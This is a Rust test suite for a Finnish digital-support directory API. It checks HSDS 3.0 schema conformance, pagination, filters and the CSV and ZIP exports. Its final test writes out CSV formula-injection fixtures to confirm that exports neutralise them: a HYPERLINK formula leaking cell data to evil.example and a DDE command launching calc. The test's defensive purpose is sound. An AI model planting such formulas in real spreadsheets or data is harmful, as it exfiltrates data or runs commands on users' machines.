//! HSDS 3.0: every response of every `/hsds/` endpoint validates against the HSDS 3.0 JSON
//! schemas (vendored in `vendor/hsds-3.0/`, CC BY-SA 4.0 Open Referral); lists use the HSDS
//! paginated envelope; the query parameters filter; the tabular export validates against the
//! HSDS data package and tabular schema.

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::io::Read;
use std::sync::OnceLock;

use jsonschema::Validator;
use serde_json::{json, Value};

use crate::helpers::{haversine_m, TestApp};

fn vendored(path: &str) -> Value {
    let p = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("vendor/hsds-3.0").join(path);
    let text = std::fs::read_to_string(&p).unwrap_or_else(|e| panic!("{}: {e}", p.display()));
    serde_json::from_str(&text).unwrap()
}

/// Inlines `{"$ref": "x.json"}` references to the other vendored HSDS schema files. The
/// object graph is recursive (a taxonomy term's taxonomy has metadata ...), so below `depth`
/// levels a reference accepts any object; our documents never nest that deep where these are
/// used (taxonomy lists, flat tabular rows).
fn inline_refs(v: &mut Value, depth: usize) {
    match v {
        Value::Object(m) => {
            if let Some(Value::String(r)) = m.get("$ref") {
                if r.ends_with(".json") && !r.contains('/') {
                    *v = if depth == 0 {
                        json!({"type": "object"})
                    } else {
                        let mut target = vendored(r);
                        inline_refs(&mut target, depth - 1);
                        target
                    };
                    return;
                }
            }
            m.values_mut().for_each(|x| inline_refs(x, depth));
        }
        Value::Array(a) => a.iter_mut().for_each(|x| inline_refs(x, depth)),
        _ => {}
    }
}

fn with_refs_inlined(path: &str) -> Value {
    let mut v = vendored(path);
    inline_refs(&mut v, 3);
    v
}

fn build(schema: &Value) -> Validator {
    jsonschema::options().should_validate_formats(true).build(schema).expect("a valid schema")
}

/// The paginated envelope (HSDS openapi.json `Page`) with items of `item`.
fn page_schema(item: Value) -> Value {
    json!({
        "type": "object",
        "required": ["total_items", "total_pages", "page_number", "size", "first_page", "last_page", "empty", "contents"],
        "properties": {
            "total_items": {"type": "integer"},
            "total_pages": {"type": "integer"},
            "page_number": {"type": "integer"},
            "size": {"type": "integer"},
            "first_page": {"type": "boolean"},
            "last_page": {"type": "boolean"},
            "empty": {"type": "boolean"},
            "contents": {"type": "array", "items": item}
        }
    })
}

pub struct Schemas {
    pub root: Validator,
    pub service: Validator,
    pub service_page: Validator,
    pub sal: Validator,
    pub sal_page: Validator,
    pub organization: Validator,
    pub organization_page: Validator,
    pub taxonomy_page: Validator,
    pub taxonomy_term_page: Validator,
    pub tabular: Validator,
}

pub fn schemas() -> &'static Schemas {
    static S: OnceLock<Schemas> = OnceLock::new();
    S.get_or_init(|| Schemas {
        // HSDS openapi.json, `getAPIMetaInformation`.
        root: build(&json!({
            "type": "object",
            "required": ["version", "profile", "openapi_url"],
            "properties": {
                "version": {"type": "string"},
                "profile": {"type": "string", "format": "uri"},
                "openapi_url": {"type": "string", "format": "uri"}
            }
        })),
        service: build(&vendored("compiled/service.json")),
        service_page: build(&page_schema(vendored("compiled/service_list.json"))),
        sal: build(&vendored("compiled/service_at_location.json")),
        sal_page: build(&page_schema(vendored("compiled/service_at_location_list.json"))),
        organization: build(&vendored("compiled/organization.json")),
        organization_page: build(&page_schema(vendored("compiled/organization_list.json"))),
        taxonomy_page: build(&page_schema(with_refs_inlined("taxonomy.json"))),
        taxonomy_term_page: build(&page_schema(with_refs_inlined("taxonomy_term.json"))),
        tabular: build(&with_refs_inlined("compiled/tabular.json")),
    })
}

fn assert_valid(v: &Validator, doc: &Value, what: &str) {
    let errors: Vec<String> = v.iter_errors(doc).take(10).map(|e| format!("{} at {}", e, e.instance_path())).collect();
    assert!(errors.is_empty(), "{what} is not valid HSDS 3.0:\n{}", errors.join("\n"));
}

/// GET + validate with `v`.
pub async fn valid(app: &TestApp, path: &str, v: &Validator) -> Value {
    let doc = app.json(path).await;
    assert_valid(v, &doc, path);
    doc
}

fn contents(v: &Value) -> &Vec<Value> {
    v["contents"].as_array().unwrap()
}

#[test]
fn the_schemas_reject_what_hsds_forbids() {
    let s = schemas();
    let good = json!({"id": "6f1d3c64-4c8b-5d0e-9a3e-6b2b8f9d7a10", "name": "Digiopastus", "status": "active"});
    assert!(s.service.is_valid(&good));
    for (field, bad) in [("id", json!("jns-digiopastus")), ("status", json!("open")), ("name", json!(7))] {
        let mut doc = good.clone();
        doc[field] = bad;
        assert!(!s.service.is_valid(&doc), "{field}");
    }
    let mut no_name = good.clone();
    no_name.as_object_mut().unwrap().remove("name");
    assert!(!s.service.is_valid(&no_name));
    let page = json!({"total_items": 1, "total_pages": 1, "page_number": 1, "size": 1, "first_page": true,
                      "last_page": true, "empty": false, "contents": [good]});
    assert!(s.service_page.is_valid(&page));
    let mut no_envelope = page.clone();
    no_envelope.as_object_mut().unwrap().remove("total_pages");
    assert!(!s.service_page.is_valid(&no_envelope));
    assert!(!s.tabular.is_valid(&json!({"address": [{"id": "6f1d3c64-4c8b-5d0e-9a3e-6b2b8f9d7a10"}]})));
}

#[tokio::test]
async fn every_hsds_list_and_object_validates() {
    let app = TestApp::spawn().await;
    let s = schemas();
    let root = valid(&app, "/hsds/", &s.root).await;
    assert_eq!(root["version"], "3.0");
    assert!(root["openapi_url"].as_str().unwrap().ends_with("/openapi.json"));

    // Services: all pages, then every service in full, by UUID and by our id.
    let all = valid(&app, "/hsds/services?per_page=100", &s.service_page).await;
    let total = all["total_items"].as_u64().unwrap() as usize;
    assert!(total >= 10, "demo data has services: {total}");
    assert_eq!(contents(&all).len(), total);
    let mut sal_seen = 0;
    for svc in contents(&all) {
        let id = svc["id"].as_str().unwrap();
        let full = valid(&app, &format!("/hsds/services/{id}"), &s.service).await;
        assert_eq!(full["id"], id);
        assert_eq!(full["organization"]["id"], svc["organization_id"]);
        let by_ours =
            valid(&app, &format!("/hsds/services/{}", svc["x_digituki_id"].as_str().unwrap()), &s.service).await;
        assert_eq!(by_ours, full);
        sal_seen += full["service_at_locations"].as_array().unwrap().len();
    }
    assert!(sal_seen > 0);

    // Pagination: pages of 7 add up to the whole list, in order, with the envelope right.
    let mut ids = Vec::new();
    let pages = total.div_ceil(7);
    for page in 1..=pages {
        let p = valid(&app, &format!("/hsds/services?per_page=7&page={page}"), &s.service_page).await;
        assert_eq!(p["page_number"], page);
        assert_eq!(p["total_pages"], pages);
        assert_eq!(p["first_page"], page == 1);
        assert_eq!(p["last_page"], page == pages);
        assert_eq!(p["size"].as_u64().unwrap() as usize, contents(&p).len());
        ids.extend(contents(&p).iter().map(|x| x["id"].clone()));
    }
    assert_eq!(ids, contents(&all).iter().map(|x| x["id"].clone()).collect::<Vec<_>>());
    let past = valid(&app, &format!("/hsds/services?per_page=7&page={}", pages + 1), &s.service_page).await;
    assert_eq!(past["empty"], true);

    // Services at locations: every page, then each one in full.
    let mut page = 1;
    let mut seen = 0;
    loop {
        let p = valid(&app, &format!("/hsds/service_at_locations?per_page=50&page={page}"), &s.sal_page).await;
        for sal in contents(&p) {
            let id = sal["id"].as_str().unwrap();
            let full = valid(&app, &format!("/hsds/service_at_locations/{id}"), &s.sal).await;
            assert_eq!(full["location"]["id"], sal["location_id"]);
            seen += 1;
        }
        if p["last_page"] == true {
            assert_eq!(seen, p["total_items"].as_u64().unwrap() as usize);
            break;
        }
        page += 1;
    }
    assert_eq!(seen, sal_seen);

    // Organizations, in full with their locations.
    let orgs = valid(&app, "/hsds/organizations?per_page=100", &s.organization_page).await;
    assert!(contents(&orgs).len() >= 5);
    for org in contents(&orgs) {
        let full = valid(&app, &format!("/hsds/organizations/{}", org["id"].as_str().unwrap()), &s.organization).await;
        assert_eq!(full["name"], org["name"]);
    }

    let tax = valid(&app, "/hsds/taxonomies", &s.taxonomy_page).await;
    assert_eq!(tax["total_items"], 1);
    let terms = valid(&app, "/hsds/taxonomy_terms?per_page=100", &s.taxonomy_term_page).await;
    let topics = app.json("/v1/topics").await;
    assert_eq!(
        terms["total_items"].as_u64().unwrap() as usize,
        topics.as_array().map(Vec::len).unwrap_or_else(|| topics["items"].as_array().unwrap().len())
    );
    for t in contents(&terms) {
        assert_eq!(t["taxonomy_id"], tax["contents"][0]["id"]);
    }
}

#[tokio::test]
async fn hsds_texts_are_finnish_with_translations_in_extensions() {
    let app = TestApp::spawn().await;
    let loc = app.json("/v1/locations/jns-paakirjasto").await;
    let org_id =
        loc["organization"]["id"].as_str().or(loc["organization_id"].as_str()).unwrap_or("vaara-kirjastot").to_owned();
    let org = valid(&app, &format!("/hsds/organizations/{org_id}"), &schemas().organization).await;
    let hsds_loc =
        org["locations"].as_array().unwrap().iter().find(|l| l["x_digituki_id"] == "jns-paakirjasto").unwrap();
    assert_eq!(hsds_loc["name"], "Joensuun pääkirjasto");
    assert_eq!(hsds_loc["x_translations"]["en"]["name"], "Joensuu Main Library");
    assert_eq!(hsds_loc["addresses"][0]["country"], "FI");
    assert_eq!(hsds_loc["addresses"][0]["state_province"], "Pohjois-Karjala");
    // Weekly schedule rows derived from the hours: RRULE-style, Helsinki times.
    let rows = hsds_loc["schedules"].as_array().unwrap();
    assert!(!rows.is_empty());
    for r in rows.iter().filter(|r| r["x_exception"].is_null()) {
        assert_eq!(r["freq"], "WEEKLY");
        let byday = r["byday"].as_str().unwrap();
        assert!(byday.split(',').all(|d| ["MO", "TU", "WE", "TH", "FR", "SA", "SU"].contains(&d)), "{byday}");
        assert_eq!(r["opens_at"].as_str().unwrap().len(), 5);
        assert!(["staffed", "self_service"].contains(&r["x_kind"].as_str().unwrap()));
    }
}

#[tokio::test]
async fn hsds_query_parameters_filter() {
    let app = TestApp::spawn().await;
    let s = schemas();
    let all = valid(&app, "/hsds/services?per_page=100", &s.service_page).await;
    let total = all["total_items"].as_u64().unwrap();

    // taxonomy_term_id: by topic code and by UUID, the same answer; every service has it.
    let by_code =
        valid(&app, "/hsds/services?per_page=100&taxonomy_term_id=online_public_services", &s.service_page).await;
    let terms = valid(&app, "/hsds/taxonomy_terms?per_page=100", &s.taxonomy_term_page).await;
    let uuid = contents(&terms).iter().find(|t| t["code"] == "online_public_services").unwrap()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let by_uuid = valid(&app, &format!("/hsds/services?per_page=100&taxonomy_term_id={uuid}"), &s.service_page).await;
    assert_eq!(by_code, by_uuid);
    assert!(by_code["total_items"].as_u64().unwrap() > 0 && by_code["total_items"].as_u64().unwrap() < total);
    for svc in contents(&by_code) {
        assert!(svc["x_topics"].as_array().unwrap().contains(&json!("online_public_services")));
    }

    // organization_id.
    let org = contents(&all)[0]["organization_id"].as_str().unwrap().to_owned();
    let of_org = valid(&app, &format!("/hsds/services?per_page=100&organization_id={org}"), &s.service_page).await;
    let expected = contents(&all).iter().filter(|x| x["organization_id"] == org.as_str()).count();
    assert_eq!(contents(&of_org).len(), expected);

    // modified_after: the future gives nothing, the past everything.
    let future = valid(&app, "/hsds/services?modified_after=2100-01-01T00:00:00Z", &s.service_page).await;
    assert_eq!(future["empty"], true);
    assert_eq!(future["total_items"], 0);
    let past = valid(&app, "/hsds/services?modified_after=2000-01-01", &s.service_page).await;
    assert_eq!(past["total_items"].as_u64().unwrap(), total);

    // search.
    let found = valid(&app, "/hsds/service_at_locations?search=pääkirjasto&per_page=100", &s.sal_page).await;
    assert!(contents(&found).iter().any(|x| x["location"]["x_digituki_id"] == "jns-paakirjasto"));
    let everything = valid(&app, "/hsds/service_at_locations", &s.sal_page).await;
    assert!(found["total_items"].as_u64().unwrap() < everything["total_items"].as_u64().unwrap());

    // postcode + proximity: every place within that many metres of the postal code's centroid.
    let pc = app.json("/v1/postal-codes/80100").await;
    let (lat, lon) = (pc["centroid"]["lat"].as_f64().unwrap(), pc["centroid"]["lon"].as_f64().unwrap());
    let near = valid(&app, "/hsds/service_at_locations?postcode=80100&proximity=3000&per_page=100", &s.sal_page).await;
    assert!(!contents(&near).is_empty());
    for sal in contents(&near) {
        let l = &sal["location"];
        let d = haversine_m(lat, lon, l["latitude"].as_f64().unwrap(), l["longitude"].as_f64().unwrap());
        assert!(d <= 3000.0, "{} at {d} m", l["name"]);
    }
    let wider =
        valid(&app, "/hsds/service_at_locations?postcode=80100&proximity=60000&per_page=100", &s.sal_page).await;
    assert!(wider["total_items"].as_u64() > near["total_items"].as_u64());
    let in_code = valid(&app, "/hsds/service_at_locations?postcode=80100&per_page=100", &s.sal_page).await;
    for sal in contents(&in_code) {
        let l = &sal["location"];
        let pc_ok = l["addresses"].as_array().unwrap().iter().any(|a| a["postal_code"] == "80100");
        assert!(pc_ok || l["location_type"] == "virtual", "{}", l["name"]);
    }

    // Bad input: 400 naming the parameter.
    app.problem("/hsds/services?postcode=abc", 400, "postcode").await;
    app.problem("/hsds/services?postcode=00000", 400, "postcode").await;
    app.problem("/hsds/services?proximity=100", 400, "postcode").await;
    app.problem("/hsds/services?postcode=80100&proximity=-1", 400, "proximity").await;
    app.problem("/hsds/services?modified_after=yesterday", 400, "modified_after").await;
    app.problem("/hsds/services?taxonomy_term_id=nope", 400, "taxonomy_term_id").await;
    app.problem("/hsds/services?organization_id=nope", 400, "organization_id").await;
    app.problem("/hsds/services?per_page=0", 400, "per_page").await;
    app.problem("/hsds/services?page=x", 400, "page").await;
    let missing = app.get("/hsds/services/00000000-0000-0000-0000-000000000000").await;
    assert_eq!(missing.status(), 404);
    app.problem("/hsds/organizations/%3Cscript%3E", 400, "id").await;
}

// ---- The tabular data package ----

fn field_ok(ty: &str, format: Option<&str>, v: &str) -> bool {
    match (ty, format) {
        ("string", Some("uuid")) => uuid_like(v),
        ("string", Some("email")) => v.contains('@') && !v.contains(' '),
        ("string", Some("uri")) => v.starts_with("http://") || v.starts_with("https://"),
        ("string", _) => true,
        ("number", _) => v.parse::<f64>().is_ok(),
        ("integer", _) => v.parse::<i64>().is_ok(),
        ("boolean", _) => v == "true" || v == "false",
        ("date", _) => chrono::NaiveDate::parse_from_str(v, "%Y-%m-%d").is_ok(),
        ("time", _) => chrono::NaiveTime::parse_from_str(v, "%H:%M:%S").is_ok(),
        ("datetime", _) => chrono::DateTime::parse_from_rfc3339(v).is_ok(),
        _ => false,
    }
}

fn uuid_like(v: &str) -> bool {
    let parts: Vec<&str> = v.split('-').collect();
    parts.iter().map(|p| p.len()).collect::<Vec<_>>() == [8, 4, 4, 4, 12]
        && parts.iter().all(|p| p.bytes().all(|b| b.is_ascii_hexdigit()))
}

#[tokio::test]
async fn hsds_zip_is_a_valid_hsds_tabular_data_package() {
    let app = TestApp::spawn().await;
    let resp = app.get("/v1/export/hsds.zip").await;
    assert_eq!(resp.status(), 200);
    assert_eq!(resp.headers()["content-type"], "application/zip");
    let etag = resp.headers()["etag"].to_str().unwrap().to_owned();
    let bytes = resp.bytes().await.unwrap();
    let again = app.client.get(app.url("/v1/export/hsds.zip")).header("If-None-Match", etag).send().await.unwrap();
    assert_eq!(again.status(), 304, "the same snapshot gives the same zip");
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec())).expect("a zip file");
    let mut files: HashMap<String, String> = HashMap::new();
    for i in 0..zip.len() {
        let mut f = zip.by_index(i).unwrap();
        let mut s = String::new();
        f.read_to_string(&mut s).unwrap();
        files.insert(f.name().unwrap().to_string(), s);
    }
    let package: Value = serde_json::from_str(&files["datapackage.json"]).unwrap();
    let hsds = vendored("datapackage.json");
    let hsds_resources: HashMap<&str, &Value> =
        hsds["resources"].as_array().unwrap().iter().map(|r| (r["name"].as_str().unwrap(), r)).collect();
    let resources = package["resources"].as_array().unwrap();
    assert!(resources.len() >= 10);
    let included: BTreeSet<&str> = resources.iter().map(|r| r["name"].as_str().unwrap()).collect();
    assert_eq!(package["profile"], hsds["profile"]);
    assert_eq!(files.len(), resources.len() + 1, "one CSV per resource, plus datapackage.json");

    // Parse every table, checking each against its HSDS table schema.
    let mut tables: BTreeMap<String, Vec<BTreeMap<String, String>>> = BTreeMap::new();
    for r in resources {
        let name = r["name"].as_str().unwrap();
        let theirs = hsds_resources.get(name).unwrap_or_else(|| panic!("{name} is not an HSDS table"));
        // HSDS's own table schema, less the foreign keys to tables the package does not hold
        // (Frictionless rejects a key to a missing resource).
        let mut schema = theirs["schema"].clone();
        if let Some(keys) = schema.get_mut("foreignKeys").and_then(Value::as_array_mut) {
            keys.retain(|k| included.contains(k["reference"]["resource"].as_str().unwrap()));
        }
        assert_eq!(r["schema"], schema, "{name}: the table schema is HSDS's own");
        assert_eq!(r["path"], theirs["path"]);
        let fields = r["schema"]["fields"].as_array().unwrap();
        let csv_text = files.get(r["path"].as_str().unwrap()).unwrap_or_else(|| panic!("{name}: no {}", r["path"]));
        let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
        let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
        let names: Vec<String> = fields.iter().map(|f| f["name"].as_str().unwrap().to_owned()).collect();
        assert_eq!(header, names, "{name}: the CSV header is the table's fields, in order");
        let mut rows = Vec::new();
        let mut unique: HashMap<String, BTreeSet<String>> = HashMap::new();
        for (n, rec) in reader.records().enumerate() {
            let rec = rec.unwrap();
            assert_eq!(rec.len(), names.len(), "{name} row {n}");
            let mut row = BTreeMap::new();
            for (f, v) in fields.iter().zip(rec.iter()) {
                let fname = f["name"].as_str().unwrap();
                let c = &f["constraints"];
                if c["required"] == true {
                    assert!(!v.is_empty(), "{name} row {n}: required field {fname} is empty");
                }
                if !v.is_empty() {
                    assert!(
                        field_ok(f["type"].as_str().unwrap(), f["format"].as_str(), v),
                        "{name} row {n}: {fname} = {v:?} is not a {} ({:?})",
                        f["type"],
                        f["format"]
                    );
                    if let Some(allowed) = c["enum"].as_array() {
                        assert!(allowed.contains(&json!(v)), "{name} row {n}: {fname} = {v:?} not in {allowed:?}");
                    }
                    if c["unique"] == true {
                        assert!(
                            unique.entry(fname.to_owned()).or_default().insert(v.to_owned()),
                            "{name}: {fname} {v} twice"
                        );
                    }
                }
                row.insert(fname.to_owned(), v.to_owned());
            }
            rows.push(row);
        }
        tables.insert(name.to_owned(), rows);
    }
    for name in ["organization", "service", "location", "service_at_location", "address", "schedule", "taxonomy_term"] {
        assert!(!tables[name].is_empty(), "{name} has rows");
    }
    // Foreign keys point at rows that exist.
    for r in resources {
        let name = r["name"].as_str().unwrap();
        for fk in r["schema"]["foreignKeys"].as_array().into_iter().flatten() {
            let field = fk["fields"].as_str().unwrap();
            let target = fk["reference"]["resource"].as_str().unwrap();
            let ids: BTreeSet<&str> = tables.get(target).into_iter().flatten().map(|row| row["id"].as_str()).collect();
            for row in &tables[name] {
                let v = &row[field];
                assert!(v.is_empty() || ids.contains(v.as_str()), "{name}.{field} = {v} has no {target}");
            }
        }
    }
    // And the rows, typed, validate against HSDS's tabular JSON schema.
    let mut doc = serde_json::Map::new();
    for r in resources {
        let name = r["name"].as_str().unwrap();
        let types: HashMap<&str, &str> = r["schema"]["fields"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| (f["name"].as_str().unwrap(), f["type"].as_str().unwrap()))
            .collect();
        let rows: Vec<Value> = tables[name]
            .iter()
            .map(|row| {
                let mut o = serde_json::Map::new();
                for (k, v) in row.iter().filter(|(_, v)| !v.is_empty()) {
                    let value = match types[k.as_str()] {
                        "number" => json!(v.parse::<f64>().unwrap()),
                        "integer" => json!(v.parse::<i64>().unwrap()),
                        _ => json!(v),
                    };
                    o.insert(k.clone(), value);
                }
                Value::Object(o)
            })
            .collect();
        doc.insert(name.to_owned(), Value::Array(rows));
    }
    assert_valid(&schemas().tabular, &Value::Object(doc), "the tabular package's rows");

    // The self-service and staffed rows of the schedules keep their meaning in the CSV too.
    let schedules = &tables["schedule"];
    assert!(schedules
        .iter()
        .any(|s| s["description"].starts_with("Omatoimiaika") || s["description"].contains("Omatoimiaika")));
    assert!(schedules.iter().all(|s| s["opens_at"].is_empty() || s["opens_at"].len() == 8));
}

#[tokio::test]
async fn locations_csv_has_every_location() {
    let app = TestApp::spawn().await;
    let resp = app.get("/v1/export/locations.csv").await;
    assert_eq!(resp.status(), 200);
    assert!(resp.headers()["content-type"].to_str().unwrap().starts_with("text/csv"));
    let etag = resp.headers()["etag"].to_str().unwrap().to_owned();
    let body = resp.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    assert_eq!(header, digituki::export::LOCATION_COLUMNS);
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let all = app.json("/v1/locations?per_page=100").await;
    assert_eq!(rows.len() as u64, all["total"].as_u64().unwrap());
    let main = rows.iter().find(|r| &r[0] == "jns-paakirjasto").unwrap();
    assert_eq!(&main[4], "Joensuun pääkirjasto");
    assert_eq!(&main[10], "167");
    assert!(main[11].parse::<f64>().is_ok());
    let again = app.client.get(app.url("/v1/export/locations.csv")).header("If-None-Match", etag).send().await.unwrap();
    assert_eq!(again.status(), 304);
}

/// Issue 14: names beginning with a formula character reach both CSV exports neutralised
/// (a leading `'`, as OWASP recommends), so a spreadsheet shows them as text; phone numbers
/// keep their `+`.
#[tokio::test]
async fn csv_exports_neutralise_formulas() {
    let app = TestApp::spawn().await;
    let token = app.token("pksotu", false).await;
    let evil = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Klikkaa\")";
    let resp = app
        .write(reqwest::Method::POST, "/v1/locations", &token)
        .json(&json!({
            "kind": "association",
            "name": {"fi": evil, "sv": "+cmd|' /C calc'!A0", "en": "@SUM(1+1)"},
            "municipality_code": "167",
            "latitude": 62.6,
            "longitude": 29.76,
            "phone": "+358 13 123 4567",
            "languages": ["fi"]
        }))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 201, "{}", resp.text().await.unwrap());
    let created: Value = resp.json().await.unwrap();
    let id = created["id"].as_str().unwrap().to_owned();
    assert_eq!(created["name"]["fi"], evil, "the API itself keeps the name as written");

    // /v1/export/locations.csv
    let body = app.get("/v1/export/locations.csv").await.text().await.unwrap();
    assert!(body.ends_with("\r\n"), "RFC 4180 records end in CRLF");
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let row = rows.iter().find(|r| r[0] == *id).expect("the new location is exported");
    assert_eq!(&row[col("name_fi")], format!("'{evil}"));
    assert_eq!(&row[col("name_sv")], "'+cmd|' /C calc'!A0");
    assert_eq!(&row[col("name_en")], "'@SUM(1+1)");
    assert_eq!(&row[col("phone")], "+358 13 123 4567", "a phone number is not a formula");
    for r in &rows {
        for cell in r.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || cell.starts_with("+358"),
                "locations.csv: {cell:?} would run as a formula"
            );
        }
    }

    // Every CSV of /v1/export/hsds.zip.
    let bytes = app.get("/v1/export/hsds.zip").await.bytes().await.unwrap();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
    let mut seen_name = false;
    for i in 0..zip.len() {
        let mut f = zip.by_index(i).unwrap();
        let name = f.name().unwrap().to_string();
        if !name.ends_with(".csv") {
            continue;
        }
        let mut text = String::new();
        f.read_to_string(&mut text).unwrap();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        for rec in reader.records() {
            for cell in rec.unwrap().iter() {
                seen_name |= name == "locations.csv" && cell == format!("'{evil}");
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || cell.starts_with("+358"),
                    "{name}: {cell:?} would run as a formula"
                );
            }
        }
    }
    assert!(seen_name, "the HSDS locations.csv has the neutralised name");
}
